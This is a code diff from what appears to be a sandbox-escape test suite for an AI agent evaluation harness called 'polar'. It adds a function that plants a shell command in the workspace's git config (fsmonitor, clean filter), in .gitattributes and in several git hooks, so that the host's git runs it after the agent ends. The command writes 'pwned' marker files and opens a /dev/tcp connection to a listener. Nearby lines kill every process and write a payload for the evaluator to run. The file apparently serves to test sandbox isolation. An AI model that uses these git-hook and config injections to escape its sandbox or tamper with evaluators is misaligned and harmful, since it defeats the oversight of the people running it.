@@ -374,6 +374,7 @@ async function escapeAll(p) {
   report.admin = await adminCalls(p, tokens);
   report.siblingCalls = sibling ? await siblingCalls(sibling, process.env.POLAR_SESSION, masters) : { escaped: false, error: 'no sibling id was dropped' };
   report.daemon = leaveDaemon(p.daemonMarker);
+  report.git = plantGitCommands(p);
   // The payload the evaluator runs (the task's evaluator command is `node payload.cjs`).
   fs.writeFileSync('payload.cjs', evaluatorPayload(p));
   console.log(`ATTACK-REPORT ${JSON.stringify(report)}`);
@@ -382,6 +383,24 @@ async function escapeAll(p) {
   // test judges them by what survives on the host: the rollout, the proxy, the other samples.
   console.log(`ATTACK-PKILL ${sh('pkill -9 -f polar; echo $?', 10_000).out.trim()}`);
   console.log(`ATTACK-KILL-ALL ${sh('kill -9 -1; echo $?', 10_000).out.trim()}`);
+}
+
+/**
+ * Commands in the workspace's own git config and hooks, for polar's git to run when it diffs the
+ * workspace after the agent ends: a clean filter and an fsmonitor (run by `git add`), hooks. Each
+ * writes beside the rollout's --out folder and calls the loopback listener; the filter still passes
+ * the content through (`cat`), so the diff and the evaluator go on.
+ */
+function plantGitCommands(p) {
+  if (!fs.existsSync('.git/config')) return { planted: false };
+  const evil = `touch ${process.cwd()}/.git/atk-ran; echo pwned > ${p.writeTargets[0]}.git 2>/dev/null; (exec 3<>/dev/tcp/127.0.0.1/${p.loopbackPort} && echo git-hello >&3) 2>/dev/null; true`;
+  fs.appendFileSync('.git/config', `\n[core]\n\tfsmonitor = "sh -c '${evil}' #"\n[filter \"atk\"]\n\tclean = "sh -c '${evil}; cat'"\n\tsmudge = cat\n`);
+  fs.writeFileSync('.gitattributes', '* filter=atk\n');
+  fs.mkdirSync('.git/hooks', { recursive: true });
+  for (const hook of ['pre-commit', 'post-commit', 'post-checkout', 'pre-auto-gc', 'post-index-change']) {
+    fs.writeFileSync(`.git/hooks/${hook}`, `#!/bin/sh\n${evil}\n`, { mode: 0o755 });
+  }
+  return { planted: true };
 }
 
 /**
